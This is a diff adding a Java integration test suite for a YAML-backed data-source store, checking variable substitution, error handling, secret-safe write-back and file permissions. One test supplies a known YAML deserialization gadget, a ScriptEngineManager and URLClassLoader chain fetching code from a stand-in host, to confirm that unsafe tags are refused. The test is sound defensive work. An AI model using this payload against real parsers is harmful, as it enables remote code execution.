@@ -1,0 +1,217 @@
+package dev.omcp.adapters.storage.config;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.omcp.ports.sources.PluginPin;
+import dev.omcp.ports.sources.SourceDefinition;
+import dev.omcp.ports.sources.SourceStoreException;
+import dev.omcp.ports.sources.SourcesDocument;
+import dev.omcp.sdk.connector.SourceConfig;
+import jakarta.json.Json;
+import jakarta.json.JsonObject;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** The sources file on a real file system. */
+class YamlSourceStoreIT {
+    @TempDir
+    Path dir;
+
+    private static final Map<String, String> ENV = Map.of("PROM_TOKEN", "tok-from-env", "PROM_HOST", "prom.example.com");
+
+    private YamlSourceStore store(Path file, List<EnvironmentSource> env) {
+        return new YamlSourceStore(Optional.ofNullable(file), dir, ENV, env);
+    }
+
+    private Path write(String name, String yaml) throws Exception {
+        Path file = dir.resolve(name);
+        Files.writeString(file, yaml);
+        return file;
+    }
+
+    @Test
+    void readsEntriesSettingsOverridesTenantsAndPins() throws Exception {
+        Path file = write("sources.yaml", """
+                sources:
+                  - name: prod-prometheus
+                    type: prometheus
+                    url: https://${PROM_HOST}:9090
+                    tenant: acme
+                    auth: {type: bearer, token: "${PROM_TOKEN}"}
+                    metrics:
+                      cpu: 'sum by ({{by}}) (rate(my_cpu_total{{{selector}}}[{{window}}]))'
+                    serviceLabels: [job, app]
+                  - name: logs
+                    type: loki
+                    url: ${LOKI_URL:-http://loki.example.com:3100}
+                    enabled: false
+                plugins:
+                  - {name: tempo, version: 1.2.0}
+                """);
+        SourcesDocument document = store(file, List.of()).load();
+
+        assertThat(document.problems()).isEmpty();
+        assertThat(document.sources()).hasSize(2);
+        SourceConfig prom = document.sources().get(0).config();
+        assertThat(prom.url()).isEqualTo("https://prom.example.com:9090");
+        assertThat(prom.tenant()).isEqualTo("acme");
+        assertThat(prom.settings().getJsonObject("auth").getString("token")).isEqualTo("tok-from-env");
+        assertThat(prom.settings().getJsonObject("metrics").getString("cpu")).contains("my_cpu_total{{{selector}}}");
+        assertThat(prom.settings().getJsonArray("serviceLabels")).hasSize(2);
+        SourceDefinition logs = document.sources().get(1);
+        assertThat(logs.enabled()).isFalse();
+        assertThat(logs.config().url()).isEqualTo("http://loki.example.com:3100");
+        assertThat(document.plugins()).containsExactly(new PluginPin("tempo", "1.2.0"));
+        assertThat(document.sources()).allSatisfy(s -> assertThat(s.origin()).isEqualTo(SourceDefinition.Origin.FILE));
+    }
+
+    @Test
+    void badEntriesAreSkippedWithTheirReasonAndKeptOnWriteBack() throws Exception {
+        Path file = write("sources.yaml", """
+                sources:
+                  - name: good
+                    type: prometheus
+                    url: https://prom.example.com
+                  - name: Bad Name
+                    type: prometheus
+                  - {type: loki}
+                  - name: good
+                    type: loki
+                unknownTopLevel: keep-me
+                """);
+        YamlSourceStore store = store(file, List.of());
+        SourcesDocument document = store.load();
+        assertThat(document.sources()).extracting(SourceDefinition::name).containsExactly("good");
+        assertThat(document.problems()).hasSize(3);
+        assertThat(document.problems().get(0)).contains("entry 2").contains("lower-case");
+        assertThat(document.problems().get(1)).contains("entry 3").contains("'name' is required");
+        assertThat(document.problems().get(2)).contains("used twice");
+
+        store.save(document.sources());
+        String written = Files.readString(file);
+        assertThat(written).contains("Bad Name").contains("unknownTopLevel: keep-me");
+    }
+
+    @Test
+    void aBrokenFileIsNeverOverwritten() throws Exception {
+        Path file = write("sources.yaml", "sources:\n  - name: [unclosed\n");
+        YamlSourceStore store = store(file, List.of());
+        SourcesDocument document = store.load();
+        assertThat(document.writable()).isFalse();
+        assertThat(document.problems()).singleElement().satisfies(p -> assertThat(p).contains("not valid YAML").contains("line"));
+        assertThatThrownBy(() -> store.save(List.of())).isInstanceOf(SourceStoreException.class);
+        assertThat(Files.readString(file)).isEqualTo("sources:\n  - name: [unclosed\n");
+    }
+
+    @Test
+    void unsafeYamlTagsAreRefused() throws Exception {
+        Path file = write("sources.yaml", "sources: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
+        SourcesDocument document = store(file, List.of()).load();
+        assertThat(document.writable()).isFalse();
+        assertThat(document.sources()).isEmpty();
+    }
+
+    @Test
+    void writeBackKeepsVariableReferencesAndNeverWritesTheSecret() throws Exception {
+        Path file = write("sources.yaml", """
+                sources:
+                  - name: prom
+                    type: prometheus
+                    url: https://${PROM_HOST}
+                    auth: {type: bearer, token: "${PROM_TOKEN}"}
+                """);
+        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r-----"));
+        YamlSourceStore store = store(file, List.of());
+        SourcesDocument document = store.load();
+        SourceConfig prom = document.sources().get(0).config();
+        // an API edit that changes another setting and sends the substituted values back unchanged
+        JsonObject edited = Json.createObjectBuilder(prom.settings()).add("logFormat", "json").build();
+        List<SourceDefinition> next = new ArrayList<>();
+        next.add(new SourceDefinition(new SourceConfig("prom", "prometheus", prom.url(), "", edited), true, SourceDefinition.Origin.FILE));
+        next.add(new SourceDefinition(new SourceConfig("added", "loki", "https://loki.example.com", "t1",
+                Json.createObjectBuilder().add("auth", Json.createObjectBuilder().add("type", "basic").add("username", "u")
+                        .add("password", "typed-in-the-ui")).build()), true, SourceDefinition.Origin.API));
+        store.save(next);
+
+        String written = Files.readString(file);
+        assertThat(written).contains("${PROM_TOKEN}").contains("https://${PROM_HOST}").doesNotContain("tok-from-env")
+                .doesNotContain("prom.example.com").contains("logFormat: json").contains("typed-in-the-ui");
+        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).isEqualTo("rw-r-----");
+        try (var files = Files.list(dir)) {
+            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("sources.yaml");
+        }
+        // reading it back gives the same values, and saving again still keeps the references
+        SourcesDocument reread = store.load();
+        assertThat(reread.sources()).hasSize(2);
+        assertThat(reread.sources().get(0).config().settings().getJsonObject("auth").getString("token")).isEqualTo("tok-from-env");
+        store.save(reread.sources());
+        assertThat(Files.readString(file)).contains("${PROM_TOKEN}").doesNotContain("tok-from-env");
+    }
+
+    @Test
+    void aChangedSecretIsWrittenAsGiven() throws Exception {
+        Path file = write("sources.yaml", "sources:\n  - {name: prom, type: prometheus, url: 'https://p.example.com', auth: {type: bearer, token: '${PROM_TOKEN}'}}\n");
+        YamlSourceStore store = store(file, List.of());
+        store.load();
+        store.save(List.of(new SourceDefinition(new SourceConfig("prom", "prometheus", "https://p.example.com", "",
+                Json.createObjectBuilder().add("auth", Json.createObjectBuilder().add("type", "bearer").add("token", "rotated")).build()),
+                true, SourceDefinition.Origin.FILE)));
+        assertThat(Files.readString(file)).contains("rotated").doesNotContain("${PROM_TOKEN}");
+    }
+
+    @Test
+    void withoutAFileEnvironmentUrlsMakeSourcesAndTheFirstSaveCreatesTheFile() throws Exception {
+        List<EnvironmentSource> env = List.of(
+                new EnvironmentSource("prometheus", "PROMETHEUS_URL", List.of("http://prom-a.example.com", "http://prom-b.example.com")),
+                new EnvironmentSource("loki", "LOGS_URL", List.of("http://loki.example.com")));
+        Map<String, String> environment = Map.of("PROMETHEUS_URL", "http://prom-a.example.com,http://prom-b.example.com",
+                "LOGS_URL", "http://loki.example.com");
+        YamlSourceStore store = new YamlSourceStore(Optional.empty(), dir, environment, env);
+        SourcesDocument document = store.load();
+        assertThat(document.sources()).extracting(SourceDefinition::name).containsExactly("prometheus-1", "prometheus-2", "loki");
+        assertThat(document.sources()).allSatisfy(s -> assertThat(s.origin()).isEqualTo(SourceDefinition.Origin.ENVIRONMENT));
+        assertThat(store.describe()).isEqualTo("environment");
+
+        store.save(document.sources());
+        Path created = dir.resolve("config").resolve("sources.yaml");
+        assertThat(created).exists();
+        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(created))).isEqualTo("rw-------");
+        assertThat(Files.readString(created)).contains("url: ${LOGS_URL}").contains("http://prom-a.example.com");
+    }
+
+    @Test
+    void noFileAndNoVariablesMeansNoSources() {
+        SourcesDocument document = store(null, List.of()).load();
+        assertThat(document.sources()).isEmpty();
+        assertThat(document.problems()).isEmpty();
+        assertThat(document.writable()).isTrue();
+    }
+
+    @Test
+    void anUnwritableDirectoryFailsTheSaveAndKeepsTheFile() throws Exception {
+        Path sub = Files.createDirectory(dir.resolve("ro"));
+        Path file = sub.resolve("sources.yaml");
+        Files.writeString(file, "sources: []\n");
+        YamlSourceStore store = new YamlSourceStore(Optional.of(file), dir, ENV, List.of());
+        store.load();
+        Files.setPosixFilePermissions(sub, PosixFilePermissions.fromString("r-x------"));
+        try {
+            if (Files.isWritable(sub)) {
+                return; // running as root: permissions do not stop writes, nothing to check here
+            }
+            assertThatThrownBy(() -> store.save(List.of())).isInstanceOf(SourceStoreException.class)
+                    .hasMessageContaining("cannot be written");
+            assertThat(Files.readString(file)).isEqualTo("sources: []\n");
+        } finally {
+            Files.setPosixFilePermissions(sub, PosixFilePermissions.fromString("rwx------"));
+        }
+    }
+}
